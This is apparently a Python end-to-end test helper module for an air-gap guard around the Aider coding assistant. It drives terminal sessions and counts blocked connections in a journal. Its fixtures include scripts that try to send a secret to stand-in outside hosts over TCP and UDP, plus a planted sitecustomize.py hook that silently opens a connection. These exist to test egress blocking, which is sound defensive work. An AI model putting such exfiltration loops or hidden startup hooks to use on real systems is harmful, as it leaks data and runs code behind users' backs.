"""People who run Aider behind the air gap in a box, and programs that try to get out of it from inside."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from airgap.layers import guard_program
from e2e.box import TESTS, Box
from e2e.leaks import SMALL
from e2e.people import PATIENCE_SECONDS, Guarded, Onlooker
from e2e.world import DATAGRAMS, OUTSIDE, SECRET, SERVICE
from session.ptys import PATIENT

from aider_guard.core.egress import Layer
from aider_guard.demo.layout import Rig

ANSWER = "It is well"
PLAIN = ["--model", SMALL, "--no-show-model-warnings", "--no-gitignore", "--map-tokens", "0"]
LOOPED = (
    "looped.example.com:443",
    f"{OUTSIDE}:443",
    f"{OUTSIDE}:{DATAGRAMS}",
    f"127.0.0.1:{SERVICE}",
)
"""Where the program that does not give up wants to go."""
_REACH = f"""
import socket, sys
for word in sys.argv[1:]:
    host, _, port = word.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), 5) as one:
            one.sendall({SECRET.encode()!r})
            one.shutdown(socket.SHUT_WR)
            one.recv(1)
    except OSError as error:
        print(word, "failed:", error)
    else:
        print(word, "was reached")
"""
_LOOP = f"""
import contextlib, itertools, os, socket, time
for rounds in itertools.count(1):
    for host in ("looped.example.com", {OUTSIDE!r}):
        with contextlib.suppress(OSError):
            socket.create_connection((host, 443), 5).sendall({SECRET.encode()!r})
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", {SERVICE}), 5).sendall({SECRET.encode()!r})
    with contextlib.suppress(OSError):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto({SECRET.encode()!r}, ({OUTSIDE!r}, {DATAGRAMS}))
    with open("rounds.new", "w") as file:
        file.write(str(rounds))
    os.replace("rounds.new", "rounds")
    if os.path.exists("enough"):
        break
    time.sleep(0.005)
"""


_ON_WORD = """
import contextlib, os, socket, sys, threading

def go():
    with open(WORD) as word, contextlib.suppress(OSError):
        socket.create_connection((word.read(), 443), 5).close()

if sys.prefix == AIDER and "AIDER_GUARD" in os.environ:
    threading.Thread(target=go, daemon=True).start()
"""


class GuardedInside(Guarded):
    """A person who runs aider-guard in a box, on a screen that holds a whole session."""

    def __init__(self, command: Sequence[str], env: dict[str, str], cwd: Path) -> None:
        self.state = Path(env["AIDER_GUARD_STATE_DIR"])
        Onlooker.__init__(self, command, env=env, cwd=cwd, rows=100, columns=200)

    def words(self) -> str:
        """The screen's text, its lines joined."""
        return " ".join(self.text().split())

    def written(self) -> list[str]:
        """The screen's lines that are not empty."""
        return [line for line in self.lines() if line]

    def leave(self) -> str:
        """Type /exit; what the screen says at the end."""
        self.type(b"/exit\r")
        assert self.end() == 0
        return self.words()

    def places(self, event: str) -> dict[str, int]:
        """How often the journal has each ``host:port`` in events of this kind."""
        counted: dict[str, int] = {}
        for one in self.journal(event):
            place = f"{one['host']}:{one['port']}"
            counted[place] = counted.get(place, 0) + one["count"]
        return counted


@dataclass(frozen=True)
class Seat:
    """A repository, a home, and a box to sit in."""

    world: Box
    rig: Rig
    repo: Path
    home: Path

    def env(self) -> dict[str, str]:
        """The whole environment of the person."""
        return {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "LANG": "C.UTF-8",
            "TERM": "xterm-256color",
            "PYTHONPATH": os.pathsep.join([str(self.home), str(TESTS.parent)]),
            "AIDER_GUARD_STATE_DIR": str(self.home / "state"),
            "OLLAMA_API_BASE": self.world.ollama,
            **PATIENT,
        }

    def command(self, layer: Layer, *words: str) -> list[str]:
        """The command line of the guard on a system whose best layer is this one."""
        guard = [*guard_program([layer]), "--aider", str(self.rig.aider_command)]
        return self.world.inside([*guard, *words], self.repo)

    def session(self, layer: Layer, *options: str, arguments: Sequence[str] = ()) -> GuardedInside:
        """A session in which Aider says yes to its own questions."""
        words = [*options, "--probe", "never", "--", *PLAIN, "--yes-always", *arguments]
        return GuardedInside(self.command(layer, *words), self.env(), self.repo)

    def without_terminal(self, layer: Layer, *words: str) -> subprocess.CompletedProcess[str]:
        """Run the guard with these arguments and no terminal."""
        return subprocess.run(
            self.command(layer, *words),
            env=self.env(),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            check=False,
            timeout=PATIENCE_SECONDS,
        )

    def reach(self, *places: str) -> str:
        """The line to type that has a program try to connect to each place, and say what became of it."""
        script = self.home / "reach.py"
        script.write_text(_REACH)
        return f"/run {sys.executable} -I {script} {' '.join(places)}"

    def await_word(self) -> Path:
        """Have Aider's Python connect to port 443 of the host that is written here, whatever its proxies are."""
        word = self.home / "word"
        os.mkfifo(word)
        text = _ON_WORD.replace("WORD", repr(str(word))).replace(
            "AIDER", repr(str(self.rig.aider)), 1
        )
        (self.home / "sitecustomize.py").write_text(text)
        return word

    def loop(self) -> str:
        """The line to type that has a program try ``LOOPED`` again and again, until ``enough``."""
        script = self.home / "loop.py"
        script.write_text(_LOOP)
        return f"/run {sys.executable} -I {script}"

    def rounds(self) -> int:
        """How many rounds the program has made."""
        file = self.repo / "rounds"
        return int(file.read_text()) if file.exists() else 0

    def enough(self) -> None:
        """Let the program end."""
        (self.repo / "enough").touch()
